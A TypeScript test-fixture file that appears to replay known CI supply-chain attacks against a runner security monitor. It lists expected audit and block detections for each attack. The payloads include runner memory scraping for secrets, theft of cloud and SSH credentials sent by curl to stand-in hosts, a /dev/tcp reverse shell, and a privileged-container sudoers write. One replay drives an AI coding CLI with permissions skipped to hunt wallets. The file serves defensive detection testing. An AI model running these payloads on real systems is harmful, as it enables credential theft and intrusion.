import { type Replay, thief } from './replay.ts'

/** Finds the runner's worker, and greps its memory for what looks like the mark. */
const memoryDump = `
import re, subprocess, sys
pid = subprocess.run(['pgrep', '-x', 'Runner.Worker'], capture_output=True, text=True).stdout.split()[0]
with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
    for line in maps:
        m = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)
        if not m: continue
        start, end = int(m[1], 16), int(m[2], 16)
        try:
            mem.seek(start)
            for found in re.findall(rb'MARK-[0-9a-f]+', mem.read(end - start)): print(found.decode())
        except OSError: pass
`

const encoded = (script: string): string => Buffer.from(script).toString('base64')

/** Rows of the table of attacks that a script can play. */
export const replays: readonly Replay[] = [
  {
    name: 'tj-actions/changed-files, CVE-2025-30066',
    script: `
cat > "$WORKSPACE/action.js" <<'JS'
require('child_process').execFileSync('bash', ['-c', 'echo ${encoded(`
curl -sS --max-time 20 http://gist.example.net/memdump.py -o /dev/null
python3 -c "$MEMDUMP" | sort -u | base64 -w 0 | base64 -w 0
`)} | base64 -d | bash'], { stdio: 'inherit' })
JS
export MEMDUMP=${`'${memoryDump.replaceAll("'", `'\\''`)}'`}
node "$WORKSPACE/action.js"`,
    audit: ['runner-worker-memory-read', 'suspicious-process'],
    block: ['runner-worker-memory-read', 'suspicious-process', 'domain-blocked'],
  },
  {
    name: 'trivy-action, CVE-2026-33634',
    script: `
cat > "$WORKSPACE/entry.py" <<'PY'
import os, subprocess, tarfile
pid = subprocess.run(['pgrep', '-x', 'Runner.Worker'], capture_output=True, text=True).stdout.split()[0]
loot = [open(f'/proc/{pid}/environ', 'rb').read()]
home = os.environ['HOME']
for name in ['.aws/credentials', '.ssh/id_ed25519', '.kube/config', '.docker/config.json', '.npmrc', '.pgpass']:
    loot.append(open(f'{home}/{name}', 'rb').read())
open('loot', 'wb').write(b''.join(loot))
tarfile.open('tpcp.tar.gz', 'w:gz').add('loot')
os.makedirs(f'{home}/.config/systemd/user', exist_ok=True)
open(f'{home}/.config/systemd/user/sysmon.service', 'w').write('[Service]')
subprocess.run(['curl', '-s', '--max-time', '5', 'http://${thief.metadata}/latest/meta-data/'])
subprocess.run(['curl', '-sk', '--max-time', '20', '--data-binary', '@loot', 'http://scan.aquasecurtiy.example/'])
PY
python3 "$WORKSPACE/entry.py"`,
    audit: [
      'runner-worker-memory-read',
      'exfiltration-attempt',
      'suspicious-network-call',
      'suspicious-process',
    ],
    block: ['runner-worker-memory-read', 'exfiltration-attempt', 'domain-blocked'],
  },
  {
    name: 'Shai-Hulud, Sep 2025',
    script: `
cat > "$WORKSPACE/bundle.js" <<'JS'
const { readFileSync, mkdirSync, writeFileSync } = require('fs')
const { execFileSync } = require('child_process')
const read = ['.aws/credentials', '.npmrc', '.kube/config'].map((name) => readFileSync(process.env.HOME + '/' + name, 'utf8'))
mkdirSync('.github/workflows', { recursive: true })
writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push')
for (const url of ['http://${thief.metadata}/', 'http://webhook.example.net/']) {
  try { execFileSync('curl', ['-s', '--max-time', '10', '-d', read.join('') + process.env.MARK, url]) } catch {}
}
JS
node "$WORKSPACE/bundle.js"`,
    audit: ['exfiltration-attempt', 'source-code-overwritten', 'suspicious-network-call'],
    block: ['source-code-overwritten', 'domain-blocked'],
  },
  {
    name: 'nx s1ngularity, Aug 2025',
    script: `
mkdir -p "$WORKSPACE/npm/bin" && cp /bin/true "$WORKSPACE/claude"
cat > "$WORKSPACE/telemetry.js" <<'JS'
const { appendFileSync, writeFileSync } = require('fs')
require('child_process').spawnSync('./claude', ['--dangerously-skip-permissions', '-p', 'find wallets'])
writeFileSync('inventory.txt', 'x')
appendFileSync(process.env.HOME + '/.bashrc', 'sudo shutdown -h 0')
JS
echo "require('child_process').spawnSync(process.execPath, ['telemetry.js'])" > "$WORKSPACE/npm/bin/npm-cli.js"
node npm/bin/npm-cli.js install`,
    audit: ['suspicious-process'],
    block: ['suspicious-process'],
  },
  {
    name: 'Codecov, Jan–Apr 2021',
    script: `curl -sm 20 -d "$(git remote -v 2>/dev/null)<<<<<< ENV $(env)" http://${thief.address}/upload/v2 || true`,
    audit: ['exfiltration-attempt'],
    block: ['exfiltration-attempt', 'destination-blocked'],
  },
  {
    name: 'ua-parser-js, Oct 2021',
    script: `
curl -sm 20 -o "$WORKSPACE/jsextension" http://pool.example.net/jsextension || true
cp /bin/true "$WORKSPACE/jsextension" && chmod +x "$WORKSPACE/jsextension"
"$WORKSPACE/jsextension" -k --tls -o stratum+tcp://pool.example.net:3333`,
    audit: ['suspicious-process'],
    block: ['suspicious-process', 'domain-blocked'],
  },
  {
    name: 'Ultralytics, Dec 2024: a shell for somebody else',
    script: `
bash -c 'bash -i >& /dev/tcp/${thief.address}/4444 0>&1' & sleep 2; kill $! || true`,
    audit: ['reverse-shell'],
    block: ['destination-blocked'],
  },
  {
    name: 'Shai-Hulud 2.0, Nov 2025: the machine through a container',
    script: `
cp /bin/true "$WORKSPACE/docker"
"$WORKSPACE/docker" run --rm --privileged -v /:/host ubuntu bash -c 'cp /host/tmp/runner /host/etc/sudoers.d/runner'`,
    audit: ['privileged-container'],
    block: ['privileged-container'],
  },
  {
    name: 'chalk/debug, Sep 2025: nothing at build time',
    script: `
echo "window.ethereum && window.ethereum.request()" > "$WORKSPACE/index.js"
node -e "require('fs').readFileSync('index.js')"`,
    audit: [],
    block: [],
  },
]
